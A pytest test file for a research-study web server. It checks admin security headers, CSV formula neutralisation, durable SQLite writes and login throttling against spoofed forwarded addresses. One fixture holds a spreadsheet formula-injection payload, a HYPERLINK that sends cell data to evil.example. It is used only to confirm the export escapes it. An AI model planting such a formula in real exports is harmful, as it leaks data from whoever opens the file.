"""Issue 25, researcher side: security headers on every admin route, formula-safe CSV
exports, database-backed login throttling, durable SQLite commits and image files."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from server.app import create_app
from server.auth import create_admin_user
from server.db.models import ParticipantSession, Response
from server.db.session import session_scope
from server.security_headers import ADMIN_SECURITY_HEADERS, is_researcher_path
from server.studies.simulate import run_simulation, serve_in_thread

PASSWORD = "a strong enough password"


def _login(client, email="lead@lab.org", password=PASSWORD, headers=None):
    page = client.get("/admin/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    return client.post(
        "/admin/login",
        data={"email": email, "password": password, "csrf": csrf},
        headers=headers or {},
        follow_redirects=False,
    )


def _admin_routes(app) -> list[tuple[str, str]]:
    """(path, method) of every researcher-side route, through included routers too."""
    found = []
    for route in app.routes:
        routes = route.original_router.routes if hasattr(route, "original_router") else [route]
        for inner in routes:
            path = getattr(inner, "path", "")
            if not is_researcher_path(path):
                continue
            found += [(path, m) for m in getattr(inner, "methods", None) or () if m != "HEAD"]
    return found


def _assert_security_headers(response, what) -> None:
    for name, value in ADMIN_SECURITY_HEADERS.items():
        if name == "Content-Security-Policy":
            assert "frame-ancestors 'none'" in response.headers.get(name, ""), (what, name)
        else:
            assert response.headers.get(name) == value, (what, name, response.headers.get(name))


# --- finding 6: security headers -----------------------------------------------------------


@pytest.fixture
def admin_client(app, client):
    with session_scope(app.state.session_factory) as db:
        create_admin_user(db, "lead@lab.org", PASSWORD)
    return client


def test_every_admin_route_sends_security_headers_logged_out_and_in(app, admin_client):
    """Walks the router table: a route added later is covered without touching this test."""
    routes = _admin_routes(app)
    assert len(routes) >= 7, routes
    for logged_in in (False, True):
        if logged_in:
            assert _login(admin_client).status_code == 303
        for path, method in routes:
            url = re.sub(r"\{[^}]+\}", "x", path)
            response = admin_client.request(method, url, data={"csrf": "x"}, follow_redirects=False)
            _assert_security_headers(response, (logged_in, method, path, response.status_code))


def test_participant_pages_keep_their_own_policy(admin_client):
    """MTurk frames the task page: the admin policy must not leak onto participant pages."""
    page = admin_client.get("/s/imi-demo")
    assert "https://*.mturk.com" in page.headers["content-security-policy"]
    assert "x-frame-options" not in page.headers
    assert "x-frame-options" not in admin_client.get("/api/v1/studies/nope").headers


# --- CSV part of finding 9: formula cells ----------------------------------------------------


def test_neutralise_formulas_leaves_numbers_alone():
    from analysis.export import neutralise_formulas

    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", None],
            "mixed": [-3.5, "-2", 4, "a", None, "=x", 0.0, "b"],
            "rt_ms": [-12.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    safe = neutralise_formulas(frame)
    assert safe["text"].tolist()[:7] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
    ]
    assert safe["text"].isna().iloc[-1]
    assert safe["mixed"].tolist()[:6] == [-3.5, "'-2", 4, "a", None, "'=x"]
    assert safe["rt_ms"].tolist() == frame["rt_ms"].tolist()
    assert frame["text"].iloc[0] == "=1+1"  # the caller's frame is not modified


INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def study_with_formula(live_study):
    """Two simulated participants; one's exclusion reason is a formula, one rt_ms negative."""
    settings, factory, study = live_study
    with serve_in_thread(create_app(settings)) as url:
        result = run_simulation(url, study.slug, 2, "random", concurrency=2, seed=9)
    with session_scope(factory) as db:
        session = db.get(ParticipantSession, result.session_ids[0])
        session.exclusion_reason = INJECTED
        first = db.scalars(select(Response).where(Response.session_id == session.id)).first()
        first.rt_ms = -12.5
    with session_scope(factory) as db:
        create_admin_user(db, "csv@lab.org", PASSWORD)
    return settings, study


def _check_csv(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    reasons = {row["exclusion_reason"] for row in rows}
    assert "'" + INJECTED in reasons and INJECTED not in reasons
    assert "-12.5" in {row["rt_ms"] for row in rows}  # numbers stay numbers


def test_cli_csv_export_neutralises_formulas(study_with_formula, tmp_path):
    from analysis.export import export_study

    settings, study = study_with_formula
    result = export_study(settings, study.slug, "csv", tmp_path / "out.csv")
    _check_csv(result.path.read_text())
    back = pd.read_csv(result.path)
    assert back["rt_ms"].dtype == float and back["rt_ms"].min() == -12.5


def test_admin_csv_export_neutralises_formulas_and_is_not_cached(study_with_formula):
    settings, study = study_with_formula
    with TestClient(create_app(settings)) as client:
        assert _login(client, email="csv@lab.org").status_code == 303
        export = client.get(f"/admin/studies/{study.slug}/export.csv")
        assert export.status_code == 200
        _check_csv(export.text)
        _assert_security_headers(export, "export.csv")


# --- finding 8: durability -----------------------------------------------------------------


def synchronous_level(conn) -> int:
    """A hot-path write (module level: it travels to the writer process by pickle)."""
    return conn.exec_driver_sql("PRAGMA synchronous").scalar()


def test_sqlite_commits_are_durable_in_the_writer_process_and_elsewhere(sqlite_url):
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    from server.db.migrate import upgrade_database
    from server.db.session import make_engine
    from server.db.write_process import close_writers, writer_for

    upgrade_database(sqlite_url)
    engine = make_engine(sqlite_url)

    async def in_writer() -> tuple[int, int | None]:
        writer = writer_for(engine)
        try:
            return await writer.run(synchronous_level), writer.pid
        finally:
            await close_writers(engine)

    with ThreadPoolExecutor(1) as pool:  # a loop of its own (a browser test's may be running)
        level, pid = pool.submit(asyncio.run, in_writer()).result()
    FULL = 2
    assert pid is not None and level == FULL
    with engine.connect() as conn:
        assert synchronous_level(conn) == FULL
    engine.dispose()


def test_image_store_syncs_the_directory_after_the_rename(tmp_path, monkeypatch):
    """A spy on the real os.fsync: which directories were synced after a first write."""
    import os
    import stat

    import numpy as np

    from server.stimuli.store import ImageStore

    synced_dirs = []
    real_fsync = os.fsync

    def spy(fd):
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            synced_dirs.append(os.readlink(f"/proc/self/fd/{fd}"))
        return real_fsync(fd)

    monkeypatch.setattr(os, "fsync", spy)
    store = ImageStore(tmp_path / "stimuli")
    stored = store.put(np.zeros((4, 4, 3), np.uint8))
    path, _ = store.locate(stored.sha256)
    # The file's own directory (the rename), and each directory created for it in its parent.
    expected = {path.parent, path.parent.parent, tmp_path / "stimuli", tmp_path}
    assert {str(d) for d in expected} <= set(synced_dirs)
    synced_dirs.clear()
    store.put(np.ones((4, 4, 3), np.uint8))  # a second image: its directory synced too
    assert synced_dirs, "every new file's directory is synced"


# --- finding 7: login throttling --------------------------------------------------------------


@pytest.fixture
def throttle_db(app):
    with session_scope(app.state.session_factory) as db:
        create_admin_user(db, "lead@lab.org", PASSWORD)
    return app.state.session_factory


def _fail(factory, email, client, times=1, now=None):
    from server.login_throttle import record_login_failure

    for _ in range(times):
        with session_scope(factory) as db:
            record_login_failure(db, "k", email, client, now)


def _allowed(factory, email, client, now=None) -> bool:
    from server.login_throttle import LoginThrottled, check_login_allowed

    with session_scope(factory) as db:
        try:
            check_login_allowed(db, "k", email, client, now)
            return True
        except LoginThrottled:
            return False


def test_backoff_is_per_account_and_address_and_doubles(throttle_db):
    from datetime import UTC, datetime, timedelta

    from server.login_throttle import (
        ACCOUNT_BACKOFF,
        LoginClient,
        LoginThrottled,
        check_login_allowed,
    )

    attacker, colleague = LoginClient("203.0.113.9"), LoginClient("198.51.100.7")
    # One clock for the failures and the checks: the waits asserted below are whole seconds
    # counted from the failure, and a stall of a second between the two would change them.
    now = datetime.now(UTC)
    _fail(throttle_db, "lead@lab.org", attacker, times=ACCOUNT_BACKOFF.free, now=now)
    assert _allowed(throttle_db, "lead@lab.org", attacker, now=now)  # the free failures
    _fail(throttle_db, "lead@lab.org", attacker, now=now)
    with session_scope(throttle_db) as db, pytest.raises(LoginThrottled) as first:
        check_login_allowed(db, "k", "LEAD@lab.org ", attacker, now)  # same account, normalised
    _fail(throttle_db, "lead@lab.org", attacker, now=now)
    with session_scope(throttle_db) as db, pytest.raises(LoginThrottled) as second:
        check_login_allowed(db, "k", "lead@lab.org", attacker, now)
    assert first.value.retry_after_s == 2 and second.value.retry_after_s == 4
    # Not a global lock: the same account from elsewhere, another account from here.
    assert _allowed(throttle_db, "lead@lab.org", colleague, now=now)
    assert _allowed(throttle_db, "other@lab.org", attacker, now=now)
    # Waits end, and a day without failures forgets the bucket.
    later = now + timedelta(seconds=5)
    assert _allowed(throttle_db, "lead@lab.org", attacker, now=later)
    _fail(throttle_db, "lead@lab.org", attacker, now=later + timedelta(days=2))
    assert _allowed(throttle_db, "lead@lab.org", attacker, now=later + timedelta(days=2))


def test_a_trusted_browser_is_not_locked_out_behind_a_shared_proxy(throttle_db):
    """Without forwarded_allow_ips behind a proxy every request has the proxy's address: an
    attacker there locks his own buckets, not a researcher whose browser logged in before."""
    from server.login_throttle import ADDRESS_BACKOFF, LoginClient, device_cookie_for

    proxy = "10.0.0.1"
    researcher = LoginClient(proxy, device_cookie_for("k", "lead@lab.org"))
    _fail(throttle_db, "lead@lab.org", LoginClient(proxy), times=8)
    for i in range(ADDRESS_BACKOFF.free + 1):  # spraying many accounts
        _fail(throttle_db, f"user{i}@lab.org", LoginClient(proxy))
    assert not _allowed(throttle_db, "new@lab.org", LoginClient(proxy))  # spraying is slowed
    assert _allowed(throttle_db, "lead@lab.org", researcher)
    # A cookie is bound to its account and to the server's key.
    stolen = LoginClient(proxy, device_cookie_for("k", "other@lab.org"))
    forged = LoginClient(proxy, researcher.device_cookie.split(".")[0] + ".00")
    assert not _allowed(throttle_db, "lead@lab.org", stolen)
    assert not _allowed(throttle_db, "lead@lab.org", forged)


def test_failures_count_across_processes(app, throttle_db):
    """Failures recorded by another process (another server worker) block here too."""
    import subprocess
    import sys

    url = app.state.settings.database_url
    code = (
        "from server.db.session import make_engine, make_session_factory, session_scope\n"
        "from server.login_throttle import LoginClient, record_login_failure\n"
        f"factory = make_session_factory(make_engine({url!r}))\n"
        "for _ in range(6):\n"
        "    with session_scope(factory) as db:\n"
        "        record_login_failure(db, 'k', 'lead@lab.org', LoginClient('192.0.2.1'))\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=120)
    from server.login_throttle import LoginClient

    assert not _allowed(throttle_db, "lead@lab.org", LoginClient("192.0.2.1"))


def test_login_route_throttles_with_retry_after_and_trusts_a_known_browser(throttle_db, client):
    assert _login(client).status_code == 303  # this browser now holds a device cookie
    device = client.cookies.get("pi_device")
    assert device
    client.cookies.clear()
    for _ in range(6):
        assert _login(client, password="guess guess guess").status_code == 200
    refused = _login(client)  # even the right password waits: no guessing during the wait
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    assert "Too many failed logins" in refused.text
    _assert_security_headers(refused, "throttled login")
    client.cookies.set("pi_device", device, path="/admin/login")
    assert _login(client).status_code == 303


def test_serve_ignores_forwarded_for_unless_a_proxy_is_trusted(tmp_path):
    """A real `psychinterp serve`: X-Forwarded-For from localhost used to pick the address
    (uvicorn trusts 127.0.0.1 by default), so rotating it bypassed throttling."""
    import os
    import subprocess
    import sys
    import time

    import httpx

    from server.config import Settings
    from server.studies.simulate import free_port

    CLI = str(Path(sys.executable).with_name("psychinterp"))  # the installed console script
    url = f"sqlite:///{tmp_path / 'serve.db'}"
    env = os.environ | {"PSYCHINTERP_SECRET_KEY": "k", "PSYCHINTERP_DATA_DIR": str(tmp_path)}
    subprocess.run(
        [CLI, "admin", "create-user", "--email", "lead@lab.org",
         "--password-stdin", "--database-url", url],
        input=PASSWORD, text=True, env=env, check=True, timeout=120,
    )  # fmt: skip
    port = free_port()
    server = subprocess.Popen(
        [CLI, "serve", "--port", str(port), "--database-url", url],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as client:
            deadline = time.monotonic() + 240  # start-up imports torch: slow on a busy machine
            while True:
                assert server.poll() is None, "psychinterp serve exited during start-up"
                try:
                    client.get("/admin/login")
                    break
                except httpx.TransportError:
                    assert time.monotonic() < deadline, "psychinterp serve never answered"
                    time.sleep(0.2)
            codes = [
                _login(client, password="guess", headers={"X-Forwarded-For": f"198.51.100.{i}"})
                .status_code
                for i in range(8)
            ]  # fmt: skip
        assert codes[:6] == [200] * 6 and codes[7] == 429, codes
    finally:
        server.kill()
        server.wait(timeout=30)
    with pytest.raises(ValueError, match="not an IP address"):
        Settings(forwarded_allow_ips="proxy.example")
    assert Settings(forwarded_allow_ips=" 127.0.0.1, 10.0.0.0/8 ").forwarded_allow_ips == (
        "127.0.0.1,10.0.0.0/8"
    )
